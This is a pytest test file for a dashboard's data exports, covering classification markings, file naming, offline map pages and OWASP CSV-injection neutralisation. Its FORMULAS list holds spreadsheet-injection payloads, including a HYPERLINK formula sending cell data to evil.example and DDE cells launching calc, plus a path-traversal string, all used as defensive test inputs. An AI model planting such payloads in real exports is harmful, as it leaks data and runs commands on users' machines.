"""Exported files carry their marking (PUBLIC / RESTRICTED) in content and name; the map export is one code path."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re

import geopandas as gpd
import pandas as pd
import pytest
from dashboard_fixtures import EVIL, public_policy, tiny_dataset

from geo import exports, figures, i18n, public
from geo.cli import main
from geo.public import PublicPolicy


@pytest.fixture
def data():
    return tiny_dataset()


def read_csv(raw: bytes) -> pd.DataFrame:
    return pd.read_csv(io.BytesIO(raw), encoding="utf-8-sig")


# ---------------------------------------------------------------- CSV


def test_csv_is_marked_restricted_by_default_in_a_first_column_on_every_row(data):
    raw = exports.joined_csv(data.incidents, data.sections)
    assert raw.startswith(b'\xef\xbb\xbf"classification",')  # BOM, then the marking column first
    frame = read_csv(raw)
    assert frame.columns[0] == "classification"
    assert len(frame) == len(data.incidents) and set(frame["classification"]) == {"RESTRICTED"}
    # the rest of the file is the same table as before: one header row, the joined columns
    assert {"incident_id", "section_name", "municipality", "region"} <= set(frame.columns)
    assert frame["incident_id"].tolist() == data.incidents["incident_id"].tolist()


@pytest.mark.parametrize(
    "make",
    [
        lambda d, m: exports.joined_csv(d.incidents, d.sections, marking=m),
        lambda d, m: exports.joined_csv(d.concerns, d.sections, concerns=True, marking=m),
        lambda d, m: exports.csv_bytes(d.committees, m),
        lambda d, m: exports.csv_bytes(d.meetings, marking=m),
        lambda d, m: exports.problems_csv(d.report, marking=m),
    ],
    ids=["incidents", "concerns", "committees", "meetings", "problems"],
)
@pytest.mark.parametrize("marking", ["PUBLIC", "RESTRICTED"])
def test_every_csv_export_carries_the_marking_asked_for(data, make, marking):
    frame = read_csv(make(data, marking))
    assert frame.columns[0] == "classification" and len(frame) > 0
    assert (frame["classification"] == marking).all()


def test_a_column_named_classification_in_the_data_cannot_override_the_marking(data):
    frame = read_csv(exports.csv_bytes(data.committees.assign(classification="PUBLIC")))
    assert list(frame.columns).count("classification") == 1 and set(frame["classification"]) == {"RESTRICTED"}


def test_an_empty_table_still_says_its_marking(data):
    raw = exports.csv_bytes(data.meetings.iloc[0:0], "PUBLIC")
    assert raw.decode("utf-8-sig").splitlines()[0].startswith('"classification",')


@pytest.mark.parametrize("bad", ["public", "SECRET", ""])
def test_unknown_markings_are_refused(data, bad):
    with pytest.raises(ValueError, match="PUBLIC, RESTRICTED"):
        exports.csv_bytes(data.committees, bad)
    with pytest.raises(ValueError, match="PUBLIC, RESTRICTED"):
        exports.sections_geojson(data.sections, bad)


# ---------------------------------------------------------------- CSV injection (OWASP)

#: Cells a spreadsheet would run or misread, each beginning with one of the characters OWASP names.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def cells(raw: bytes) -> list[list[str]]:
    """The CSV's rows as a spreadsheet's import reads them: every field as text, quotes removed."""
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def evil_dataset(data):
    """The tiny dataset with a formula in every text field of every table the Data page exports."""
    n_inc, n_con = len(data.incidents), len(data.concerns)
    incidents = data.incidents.assign(incident_id=[FORMULAS[i % len(FORMULAS)] for i in range(n_inc)])
    concerns = data.concerns.assign(
        concern_id=[FORMULAS[i % len(FORMULAS)] for i in range(n_con)],
        description=FORMULAS[0],
        description_public=True,
        action_taken=FORMULAS[1],
    )
    sections = data.sections.assign(section_name=FORMULAS[2])
    committees = data.committees.assign(name=FORMULAS[3])
    meetings = data.meetings.assign(meeting_id=FORMULAS[4])
    return incidents, concerns, sections, committees, meetings


def exported_csvs(data) -> dict[str, bytes]:
    from geo.report import Report

    incidents, concerns, sections, committees, meetings = evil_dataset(data)
    report = Report()
    report.add("bad_date", "incidents", "=evil.csv", "row 3", row=3, field="occurred_at", value=FORMULAS[5])
    report.add("bad_date", "incidents", "x.csv", "row 4", row=4, field="occurred_at", value="-5")
    return {
        "incidents": exports.joined_csv(incidents, sections),
        "concerns": exports.joined_csv(concerns, sections, concerns=True),
        "committees": exports.csv_bytes(committees),
        "meetings": exports.csv_bytes(meetings),
        "problems": exports.problems_csv(report),
    }


@pytest.mark.parametrize("name", ["incidents", "concerns", "committees", "meetings", "problems"])
def test_no_csv_export_starts_a_cell_with_a_formula(data, name):
    raw = exported_csvs(data)[name]
    rows = cells(raw)
    starts = [c for row in rows for c in row if c[:1] in exports.FORMULA_START and not c.lstrip("+-").isdigit()]
    assert starts == [], starts
    # the text is kept, behind a single quote, and the field is quoted in the file
    texts = raw.decode("utf-8-sig")
    neutralised = [c for row in rows for c in row if c.startswith("'") and c[1:] in FORMULAS + ["=evil.csv"]]
    assert neutralised, rows
    for c in neutralised:
        assert '"' + c.replace('"', '""') + '"' in texts


def test_control_the_formulas_are_in_the_data_the_exports_are_made_from(data):
    """Without the neutralisation the same cells would begin with the formula (what the test above would see)."""
    incidents, concerns, *_ = evil_dataset(data)
    raw = incidents.to_csv(index=False).encode()
    assert any(c in FORMULAS for row in cells(raw) for c in row)
    assert exports.safe_cell(FORMULAS[0]) == "'" + FORMULAS[0]


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+383 44 123 456", "'+383 44 123 456"),  # a phone number: a spreadsheet would compute it
        ("-2+3", "'-2+3"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-5", "-5"),  # only a number: read as that number, never as a formula
        ("+3.5", "+3.5"),
        ("-1,5", "-1,5"),
        ("-1e-3", "-1e-3"),
        ("- 5", "'- 5"),
        ("-", "'-"),
        ("a=b", "a=b"),  # only the first character counts
        (" =1", " =1"),
        ("", ""),
        (-5, -5),
        (None, None),
    ],
)
def test_safe_cell(cell, safe):
    assert exports.safe_cell(cell) == safe


def test_numbers_stay_numbers_in_numeric_columns_and_plain_negative_numbers_in_text(data):
    frame = pd.DataFrame(
        {
            "change": [-5, 3, -12],
            "z": [-1.96, 0.5, float("nan")],
            "count": pd.array([-1, None, 2], dtype="Int64"),
            "note": pd.array(["-5", "-5+1", None], dtype="string"),
        }
    )
    raw = exports.csv_bytes(frame)
    back = read_csv(raw)
    assert back["change"].tolist() == [-5, 3, -12] and pd.api.types.is_integer_dtype(back["change"])
    assert back["z"].iloc[0] == -1.96 and pd.isna(back["z"].iloc[2])
    assert pd.api.types.is_numeric_dtype(back["count"]) and back["count"].iloc[0] == -1
    assert back["note"].tolist()[:2] == ["-5", "'-5+1"]
    lines = raw.decode("utf-8-sig").splitlines()
    assert lines[1] == '"RESTRICTED",-5,-1.96,-1,"-5"'  # numbers bare, text quoted
    assert lines[2] == '"RESTRICTED",3,0.5,"","\'-5+1"'


def test_a_column_name_that_is_a_formula_is_neutralised_too():
    raw = exports.csv_bytes(pd.DataFrame({"=cmd": ["x"]}))
    assert cells(raw)[0] == ["classification", "'=cmd"]


def test_the_hotspots_csv_of_the_command_line_is_neutralised(tmp_path):
    from shapely.geometry import box, mapping

    feats = [
        {
            "type": "Feature",
            "properties": {
                "section_id": sid,
                "section_name": "S",
                "municipality": "Prishtinë",
                "region": "Prishtinë",
                "population": 1000,
            },
            "geometry": mapping(box(21.1 + 0.02 * i, 42.6, 21.12 + 0.02 * i, 42.62)),
        }
        for i, sid in enumerate(["=1+1", "@A1", "S3"])
    ]
    sections = tmp_path / "sections.geojson"
    sections.write_text(json.dumps({"type": "FeatureCollection", "features": feats}), encoding="utf-8")
    incidents = tmp_path / "incidents.csv"
    incidents.write_text("occurred_at,category,lat,lon\n2024-03-01,theft,42.61,21.11\n", encoding="utf-8")
    out = tmp_path / "h.csv"
    args = ["hotspots", "--sections", str(sections), "--incidents", str(incidents), "--out", str(out)]
    assert main([*args, "--from", "2024-03-01", "--to", "2024-03-31"]) == 0
    ids = [row[1] for row in cells(out.read_bytes())[1:]]
    assert sorted(ids) == ["'=1+1", "'@A1", "S3"]


# ---------------------------------------------------------------- GeoJSON


@pytest.mark.parametrize("marking", ["PUBLIC", "RESTRICTED"])
def test_geojson_is_marked_at_the_top_and_on_every_feature(data, marking):
    raw = exports.sections_geojson(data.sections, marking)
    gj = json.loads(raw)
    assert gj["type"] == "FeatureCollection" and gj["classification"] == marking
    assert len(gj["features"]) == 7
    assert all(f["properties"]["classification"] == marking for f in gj["features"])
    # GIS programs still read it, and keep the marking as an attribute
    back = gpd.read_file(io.BytesIO(raw))
    assert len(back) == 7 and set(back["classification"]) == {marking}


def test_geojson_defaults_to_restricted(data):
    assert json.loads(exports.sections_geojson(data.sections))["classification"] == "RESTRICTED"


# ---------------------------------------------------------------- file names


def test_marked_names():
    assert exports.marked_name("demo-incidents.csv", "RESTRICTED") == "demo-incidents-RESTRICTED.csv"
    assert exports.marked_name("demo-sections.geojson", "PUBLIC") == "demo-sections-PUBLIC.geojson"
    with pytest.raises(ValueError):
        exports.marked_name("a.csv", "secret")


def test_export_names_say_what_where_when_and_the_marking():
    october = figures.Period(dt.date(2026, 10, 1), dt.date(2026, 10, 31))
    name = exports.export_name("brief", "Prishtinë", october, "PUBLIC", "pdf")
    assert name == "brief-prishtine-2026-10-PUBLIC.pdf"
    assert exports.export_name("brief", "Fushë Kosovë", october, "RESTRICTED", ".html", "sr") == (
        "brief-fushe-kosove-2026-10-sr-RESTRICTED.html"
    )
    part = figures.Period(dt.date(2026, 10, 3), dt.date(2026, 10, 31))
    assert (
        exports.export_name("map", "", part, "RESTRICTED", "html") == "map-kosovo-2026-10-03_2026-10-31-RESTRICTED.html"
    )
    february = figures.Period(dt.date(2024, 2, 1), dt.date(2024, 2, 29))
    assert exports.period_slug(february) == "2024-02"
    # names from data files cannot reach outside the download folder or carry markup
    assert exports.slug("../../etc/" + EVIL) == "etc-script-alert-1-script"
    assert exports.slug("Đakovica") == "djakovica" and exports.slug("Zvečan") == "zvecan"


# ---------------------------------------------------------------- the map: one code path for the CLI and the page


def test_the_cli_map_is_the_library_function(tmp_path, monkeypatch, capsys):
    calls = []

    def fake(data, period, lang, **kwargs):
        calls.append((lang, kwargs))
        return "<html>the page</html>"

    monkeypatch.setattr(exports, "overview_map_html", fake)
    out = tmp_path / "m.html"
    assert main(["map", "--municipality", "Prizren", "--lang", "en", "--public", "--out", str(out)]) == 0
    assert out.read_text(encoding="utf-8") == "<html>the page</html>"
    ((lang, kwargs),) = calls
    assert lang == "en" and kwargs["municipality"] == "Prizren" and isinstance(kwargs["policy"], PublicPolicy)
    assert "PUBLIC map written" in capsys.readouterr().out


def test_map_html_is_marked_and_offline(data):
    march = figures.Period(dt.date(2024, 3, 1), dt.date(2024, 3, 31))
    page = exports.overview_map_html(data, march, "en", municipality="Priština", measure="count", selected="S1")
    assert "<title>RESTRICTED · Number of incidents · March 2024</title>" in page
    assert not re.search(r"<script[^>]+src=", page) and not re.search(r"<link[^>]+href=", page)
    assert set(re.findall(r'"section_id": "([^"]+)"', page)) == {"S1", "S2", "S3", "S4"}
    public = exports.overview_map_html(data, march, "en", policy=public_policy())
    assert "<title>PUBLIC · " in public and "RESTRICTED" not in public


def test_public_exports_never_carry_the_records_perturbation_keys(data):
    """With the keys and the public table, anyone could take the adjustment off every published count. Public
    concerns carry none (they are counted exactly), and the incidents' stay inside the published cube."""
    pub = public_policy().apply(data)
    assert not [c for c in pub.concerns.columns if "key" in c]
    for marking in exports.MARKINGS:
        for raw in (
            exports.joined_csv(pub.concerns, pub.sections, concerns=True, marking=marking),
            exports.csv_bytes(pub.concerns, marking),
            exports.csv_bytes(pub.incidents, marking),
        ):
            header = raw.decode("utf-8-sig").splitlines()[0]
            assert not [c for c in header.split(",") if "key" in c], header


def map_counts(page: str) -> dict[str, str]:
    """The count text (``t2``) of every section of a map page."""
    dec, out = json.JSONDecoder(), {}
    for m in re.finditer(r'"properties":\s*\{', page):
        try:
            props, _end = dec.raw_decode(page, m.end() - 1)
        except ValueError:
            continue
        if isinstance(props, dict) and "section_id" in props:
            out[str(props["section_id"])] = props
    return out


def test_public_map_html_shows_the_published_counts_of_the_public_cube(data):
    march = figures.Period(dt.date(2024, 3, 1), dt.date(2024, 3, 31))
    policy = public_policy()
    page = exports.overview_map_html(data, march, "en", measure="count", policy=policy)
    published = figures.section_measures(data.sections, policy.apply(data).cube, march, figures.DEFAULT_CATEGORIES)
    measures = policy.measures(published)
    assert not [c for c in measures.columns if c.startswith("_raw")]  # nothing but the published figures
    assert measures["count"].isna().tolist() == published["count"].map(policy.is_small).tolist()
    props = map_counts(page)
    assert set(props) == set(measures.index)
    _ = i18n.translator("en")
    for sid, n in published["count"].items():
        assert props[sid]["t2"] == policy.show(n, _), (sid, props[sid], n)
    assert not any(k.startswith("_raw") for p in props.values() for k in p)


def test_public_map_html_refuses_periods_and_categories_the_public_view_does_not_offer(data):
    half = figures.Period(dt.date(2024, 3, 1), dt.date(2024, 3, 15))
    with pytest.raises(public.PublicQueryError, match="calendar month, quarter or year"):
        exports.overview_map_html(data, half, policy=public_policy())
    march = figures.Period(dt.date(2024, 3, 1), dt.date(2024, 3, 31))
    with pytest.raises(public.PublicQueryError, match="theft, drugs"):
        exports.overview_map_html(data, march, categories=["theft", "drugs"], policy=public_policy())
    assert "PUBLIC" in exports.overview_map_html(data, march, "en", categories=["theft"], policy=public_policy())
    assert "RESTRICTED" in exports.overview_map_html(data, half, categories=["theft", "drugs"])  # restricted: any
    with pytest.raises(public.MissingSecret):
        exports.overview_map_html(data, march, policy=PublicPolicy())


def test_map_html_refuses_bad_arguments(data):
    march = figures.Period(dt.date(2024, 3, 1), dt.date(2024, 3, 31))
    with pytest.raises(ValueError, match="Atlantis"):
        exports.overview_map_html(data, march, municipality="Atlantis")
    with pytest.raises(ValueError, match="measure"):
        exports.overview_map_html(data, march, measure="density")
    with pytest.raises(ValueError, match="withheld"):
        exports.overview_map_html(data, march, categories=["domestic_violence"], policy=public_policy())


# ---------------------------------------------------------------- the Brief page's map file: when and what


def test_the_public_map_is_refused_for_withheld_or_free_category_choices_and_the_restricted_one_never():
    from geo.public import PublicPolicy

    policy = PublicPolicy()
    assert exports.map_refusal(None, ("domestic_violence",)) == ""
    assert exports.map_refusal(policy, ("domestic_violence", "sexual_offence")) == exports.EVERY_CATEGORY_WITHHELD
    assert exports.map_refusal(policy, ("theft", "drugs")) == exports.CATEGORIES_NOT_OFFERED
    assert exports.map_refusal(policy, ("theft",)) == ""
    assert exports.map_refusal(policy, ()) == exports.EVERY_CATEGORY_WITHHELD  # as the page decided before


def test_the_map_file_names_its_area_and_is_coloured_by_a_measure_it_offers():
    assert exports.map_area("Pejë", "Istog") == "Istog"
    assert exports.map_area("Pejë", "") == "region Pejë"
    assert exports.map_area("", "") == ""
    assert exports.map_measure(None) == "rate"
    assert exports.map_measure("no_such_measure") == "rate"
    assert all(exports.map_measure(m) == m for m in exports.MAP_MEASURES)
